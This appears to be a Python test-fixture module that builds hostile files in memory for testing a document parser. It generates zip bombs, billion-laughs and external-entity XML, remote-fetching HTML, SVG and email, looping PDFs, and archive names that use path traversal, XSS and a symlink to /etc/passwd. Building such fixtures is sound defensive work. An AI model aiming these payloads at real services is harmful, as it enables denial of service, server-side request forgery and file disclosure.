"""Files made to hurt whoever reads them: each is small, and each would take a careless reader down.

All are made here, in memory, from their description; nothing hostile is stored in the repository.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

_MB = 1024 * 1024
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


@dataclass(frozen=True, slots=True)
class Bomb:
    """A hostile file and the threat it stands for."""

    name: str
    threat: str
    make: Callable[[], bytes]


def bombs() -> tuple[Bomb, ...]:
    """Every hostile file that needs nothing from outside."""
    return (
        Bomb(
            "inflating.docx", "T10", lambda: docx(_repeated("<w:p><w:r><w:t>", b" " * _MB, 300, "</w:t></w:r></w:p>"))
        ),
        Bomb(
            "paragraphs.docx",
            "T10",
            lambda: docx(_repeated("", b"<w:p><w:r><w:t>a b</w:t></w:r></w:p>" * 25_000, 180, "")),
        ),
        Bomb(
            "one-text.docx",
            "T10",
            lambda: docx(_repeated("<w:p><w:r><w:t>", b"word " * 200_000, 190, "</w:t></w:r></w:p>")),
        ),
        Bomb("below-the-ratio.docx", "T10", lambda: docx(_numbered_paragraphs(1_500_000))),
        Bomb("nested-tables.docx", "T10", lambda: docx(_nested_tables(60))),
        Bomb("inflating.xlsx", "T10", lambda: xlsx(_repeated("", b"<row><c><v>1</v></c></row>" * 40_000, 300, ""))),
        Bomb("wide.xlsx", "T10", lambda: xlsx(iter([b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'] * 2))),
        Bomb("flat.zip", "T10", lambda: archive({"a.txt": _zeros(600)})),
        Bomb("nested.zip", "T10", _nested_zip),
        Bomb("many-members.zip", "T10", lambda: many_members(100_000)),
        Bomb("many-members.docx", "T10", lambda: docx(iter([b"<w:p/>"]), also=many_members(100_000))),
        Bomb("overlapping.zip", "T10", _overlapping_zip),
        Bomb("lying-size.zip", "T10", _lying_zip),
        Bomb(
            "laughs.docx",
            "T12",
            lambda: docx(iter([b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"]), doctype=laughs("w:document")),
        ),
        Bomb(
            "laughs.xlsx",
            "T12",
            lambda: xlsx(iter([b'<row><c t="str"><v>&l9;</v></c></row>']), doctype=laughs("worksheet")),
        ),
        Bomb("laughs.svg", "T12", lambda: _xml_with(laughs("svg"), "<svg><text>&l9;</text></svg>")),
        Bomb("laughs.html", "T12", lambda: _xml_with(laughs("html"), "<html><body>&l9; a word</body></html>")),
        Bomb("page-tree-loop.pdf", "T11", _page_tree_loop),
        Bomb("xref-loop.pdf", "T11", _xref_loop),
        Bomb("billion-pages.pdf", "T11", lambda: _pdf_with(_WORD, count=1_000_000_000)),
        Bomb("inflating.pdf", "T11", lambda: _deflated_pdf(_zeros(400))),
        Bomb(
            "drawing.pdf",
            "T11",
            lambda: _deflated_pdf(_repeated("BT /F1 9 Tf ", b"(word) Tj 1 1 Td " * 60_000, 30, " ET")),
        ),
        Bomb("form-loop.pdf", "T11", _form_loop),
        Bomb("deep.pdf", "T11", lambda: _pdf_with(b"BT " + b"[" * 3_000_000 + b" ET")),
        Bomb("deep.html", "T13", lambda: b"<div>" * 300_000 + b"deep"),
        Bomb("tags.html", "T13", lambda: b"<p>word " * (3 * _MB)),
        Bomb("attributes.html", "T13", lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(400_000)) + b">word"),
        Bomb("brackets.md", "T13", lambda: b"[" * 400_000 + b"word"),
        Bomb("quotes.md", "T13", lambda: b"> " * 200_000 + b"word"),
        Bomb("emphasis.md", "T13", lambda: b"*a **b " * 200_000),
        Bomb("table.md", "T13", lambda: b"|a" * 50_000 + b"\n" + b"|-" * 50_000 + b"\n" + b"|b\n" * 2_000),
        Bomb("one-line.csv", "T21", lambda: b"a," * (10 * _MB)),
        Bomb("headings.md", "T21", lambda: b"# a\nb\n" * 1_000_000),
        Bomb("words.txt", "T21", lambda: b"word " * (5 * _MB)),
    )


def laughs(root: str) -> str:
    """A document type whose entity l9 stands for a billion words."""
    entities = ['<!ENTITY l0 "laugh ">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))]
    return f"<!DOCTYPE {root} [{''.join(entities)}]>"


def external(root: str, address: str) -> str:
    """A document type that fetches from an address in the ways XML knows: entity, parameter, its own subset."""
    return (
        f'<!DOCTYPE {root} SYSTEM "{address}/subset" '
        f'[<!ENTITY % p SYSTEM "{address}/parameter"> %p; <!ENTITY x SYSTEM "{address}/entity">]>'
    )


def xml_attacks(address: str) -> Iterator[tuple[str, bytes]]:
    """(name, file) of files whose XML or HTML asks for what lies at an address."""
    doctype = external("w:document", address)
    paragraph = b"<w:p><w:r><w:t>&x; a word</w:t></w:r></w:p>"
    yield "entity.docx", docx(iter([paragraph]), doctype=doctype)
    yield "utf16.docx", docx(iter([paragraph]), doctype=doctype, encoding="utf-16")
    yield "template.docx", docx(iter([b"<w:p><w:r><w:t>word</w:t></w:r></w:p>"]), target=f"{address}/template")
    yield "entity.xlsx", xlsx(iter([b'<row><c t="str"><v>&x;</v></c></row>']), doctype=external("worksheet", address))
    yield "entity.svg", _xml_with(external("svg", address), "<svg><text>&x; word</text></svg>")
    yield "entity.html", _xml_with(external("html", address), "<html><body>&x; a word</body></html>")
    yield "entity.xhtml", _xml_with(external("html", address), "<html><body>&x; a word</body></html>")
    yield "page.html", _fetching_page(address)
    yield "include.html", _including_page(address)
    yield "picture.md", f"![a]({address}/image)\n\n<img src='{address}/html'>\n\nA word.".encode()
    yield "mail.eml", f'Subject: a\nContent-Type: text/html\n\n<img src="{address}/mail"><p>A word.'.encode()
    yield "external-body.eml", _external_body(address)
    yield "action.pdf", _pdf_with(_WORD, catalog=f"/OpenAction<</S/URI/URI({address}/action)>>".encode())


def wrong_types() -> tuple[tuple[str, bytes], ...]:
    """(name, file) of files that are not what their names say."""
    program = b"MZ\x90\x00" + bytes(4000)
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script>word</body></html>"
    return (
        *(
            (f"program.{ending}", program)
            for ending in ("pdf", "docx", "html", "md", "txt", "xlsx", "pptx", "zip", "csv")
        ),
        *((f"page.{ending}", html) for ending in ("pdf", "docx", "xlsx", "pptx", "zip")),
        ("elf.pdf", b"\x7fELF" + bytes(4000)),
        ("picture.docx", b"\x89PNG\r\n\x1a\n" + bytes(4000)),
        ("zeros.pdf", bytes(100_000)),
        ("empty.docx", archive({})),
        ("pdf.docx", _pdf_with(_WORD)),
        ("cut.pdf", _pdf_with(_WORD)[:120]),
        ("cut.docx", docx(iter([b"<w:p/>"]))[:200]),
    )


HOSTILE_NAMES = (
    "../escape.txt",
    "../../../../tmp/escape.txt",
    "/tmp/escape.txt",
    "C:\\escape.txt",
    "\\\\server\\share\\escape.txt",
    "a\x00b.txt",
    "invoice\u202etxt.exe",
    "CON",
    "nul.txt",
    "a\nb.txt",
    "x" * 4096 + ".txt",
    "e\u0301.txt",
    "\u00e9.txt",
    ".",
    "..",
    "",
    "<img src=x onerror=alert(1)>.txt",
    "\x1b[31mred.txt",
    "\udcff.txt",
)
"""Names that a careless unpacker would follow out of its directory, or a careless page would believe."""


def archive_of_names() -> bytes:
    """A ZIP archive with a readable text under every hostile name, and a symbolic link."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        for number, name in enumerate(HOSTILE_NAMES):
            info = zipfile.ZipInfo("placeholder")
            info.filename = name.encode("utf-8", "replace").decode()
            out.writestr(info, f"Text number {number}.")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        out.writestr(link, "/etc/passwd")
    return packed.getvalue()


# Archives


def archive(members: dict[str, Iterator[bytes]]) -> bytes:
    """A ZIP archive of members that are given piece by piece."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out:
        for name, pieces in members.items():
            with out.open(name, "w", force_zip64=True) as member:
                for piece in pieces:
                    member.write(piece)
    return packed.getvalue()


def many_members(count: int) -> bytes:
    """An archive of that many empty members."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        for number in range(count):
            out.writestr(zipfile.ZipInfo(f"{number}.txt"), b"")
    return packed.getvalue()


def _zeros(megabytes: int) -> Iterator[bytes]:
    return (bytes(_MB) for _ in range(megabytes))


def _repeated(before: str, piece: bytes, times: int, after: str) -> Iterator[bytes]:
    yield before.encode()
    for _ in range(times):
        yield piece
    yield after.encode()


def _nested_zip() -> bytes:
    inner = archive({"a.txt": _zeros(50)})
    for level in range(12):
        inner = archive({f"{level}-{copy}.zip": iter([inner]) for copy in range(4)})
    return inner


def _overlapping_zip() -> bytes:
    """Many entries in the directory, all leading to the same packed bytes."""
    name = b"a.txt"
    packed = zlib.compress(bytes(20 * _MB), 9)[2:-4]
    facts = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, zlib.crc32(bytes(20 * _MB)), len(packed), 20 * _MB, len(name), 0)
    local = b"PK\x03\x04" + facts + name + packed
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    entries = 500
    end = struct.pack("<HHHHIIH", 0, 0, entries, entries, len(entry) * entries, len(local), 0)
    return local + entry * entries + b"PK\x05\x06" + end


def _lying_zip() -> bytes:
    """A member that says it holds 10 bytes and holds 200 MB."""
    honest = archive({"a.txt": _zeros(200)})
    at = honest.rindex(b"PK\x01\x02")
    return honest[: at + 24] + struct.pack("<I", 10) + honest[at + 28 :]


# Office files


def docx(
    body: Iterator[bytes], *, doctype: str = "", encoding: str = "utf-8", target: str = "", also: bytes = b""
) -> bytes:
    """A Word document around a body, with a document type, an outside template, or more members."""
    template = f'<Relationship Id="r9" Type="{_OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    members = {
        "[Content_Types].xml": _content_types("document", "wordprocessingml.document.main", "word"),
        "_rels/.rels": _rels(f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": _part(f"{doctype}<w:document {_W}><w:body>", body, "</w:body></w:document>", encoding),
        "word/_rels/document.xml.rels": _rels(template if target else ""),
    }
    if also:
        with zipfile.ZipFile(io.BytesIO(also)) as more:
            members |= {name: iter([b""]) for name in more.namelist()}
    return archive(members)


def xlsx(rows: Iterator[bytes], *, doctype: str = "") -> bytes:
    """A workbook of one sheet with these rows."""
    sheets = '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    return archive(
        {
            "[Content_Types].xml": _content_types("workbook", "spreadsheetml.sheet.main", "xl", sheet=True),
            "_rels/.rels": _rels(f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/>'),
            "xl/workbook.xml": iter([f'{_XML}<workbook {_S} xmlns:r="{_OFFICE}">{sheets}</workbook>'.encode()]),
            "xl/_rels/workbook.xml.rels": _rels(
                f'<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
            ),
            "xl/worksheets/sheet1.xml": _part(
                f"{doctype}<worksheet {_S}><sheetData>", rows, "</sheetData></worksheet>", "utf-8"
            ),
        }
    )


def _content_types(part: str, kind: str, folder: str, *, sheet: bool = False) -> Iterator[bytes]:
    office = "application/vnd.openxmlformats-officedocument"
    sheet_type = f"{office}.spreadsheetml.worksheet+xml"
    override = f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet_type}"/>' if sheet else ""
    yield (
        f'{_XML}<Types xmlns="{_TYPES}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{folder}/{part}.xml" ContentType="{office}.{kind}+xml"/>{override}</Types>'
    ).encode()


def _rels(relationships: str) -> Iterator[bytes]:
    yield f'{_XML}<Relationships xmlns="{_RELATIONSHIPS}">{relationships}</Relationships>'.encode()


def _part(before: str, body: Iterator[bytes], after: str, encoding: str) -> Iterator[bytes]:
    if encoding == "utf-8":
        yield f"{_XML}{before}".encode()
        yield from body
        yield after.encode()
    else:
        head = _XML.replace("UTF-8", encoding.upper())
        yield (head + before + b"".join(body).decode() + after).encode(encoding)


def _numbered_paragraphs(count: int) -> Iterator[bytes]:
    """Within every limit on archives, and still far more than 512 MB once it is a tree."""
    for start in range(0, count, 10_000):
        yield b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % n for n in range(start, start + 10_000))


def _nested_tables(depth: int) -> Iterator[bytes]:
    yield b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p><w:r><w:t>word</w:t></w:r></w:p>" + b"</w:tc></w:tr></w:tbl>" * depth


def _xml_with(doctype: str, body: str) -> bytes:
    return f'<?xml version="1.0"?>{doctype}{body}'.encode()


# Pages and mails that would fetch


def _fetching_page(address: str) -> bytes:
    return (
        f'<!DOCTYPE html><html><head><base href="{address}/base/"><link rel="stylesheet" href="{address}/css">'
        f'<meta http-equiv="refresh" content="0;url={address}/refresh"><script src="{address}/script"></script>'
        f'<style>@import url("{address}/style");</style></head><body><img src="{address}/image" srcset="{address}/set">'
        f'<iframe src="{address}/frame"></iframe><object data="{address}/object"></object>'
        f'<p style="background:url({address}/background)">A word.</p></body></html>'
    ).encode()


def _including_page(address: str) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}/include" parse="text"/>'
    return f"<html><body>{include}<svg><use href='{address}/use'/></svg><p>A word.</p></body></html>".encode()


def _external_body(address: str) -> bytes:
    return (
        "Subject: a\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n"
        f'A word.\n--b\nContent-Type: message/external-body; access-type=URL; URL="{address}/body"\n\n'
        "Content-Type: text/plain\n\n--b--\n"
    ).encode()


# PDF


def pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF file of numbered objects; the first is the catalog."""
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R%b>>\n" % (size, table, size, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _stream(data: bytes, facts: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (facts, len(data), data)


_WORD = b"BT /F1 9 Tf 9 700 Td (word) Tj ET"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%b>>>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _pdf_with(content: bytes, *, count: int = 1, catalog: bytes = b"", facts: bytes = b"") -> bytes:
    pages = b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog, pages, _PAGE % b"", _stream(content, facts), _FONT],
    )


def _deflated_pdf(pieces: Iterator[bytes]) -> bytes:
    squeeze = zlib.compressobj(9)
    packed = b"".join(map(squeeze.compress, pieces)) + squeeze.flush()
    return _pdf_with(packed, facts=b"/Filter/FlateDecode")


def _page_tree_loop() -> bytes:
    pages = b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 3/Parent 2 0 R>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, _PAGE % b"", _stream(_WORD), _FONT])


def _xref_loop() -> bytes:
    whole = _pdf_with(_WORD)
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % whole.index(b"xref\n"))


def _form_loop() -> bytes:
    """A form that draws itself twice, and again in each of those."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 6 0 R>>>>"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            _PAGE % b"/XObject<</X 6 0 R>>",
            _stream(b"/X Do /X Do"),
            _FONT,
            _stream(b"/X Do /X Do", form),
        ]
    )
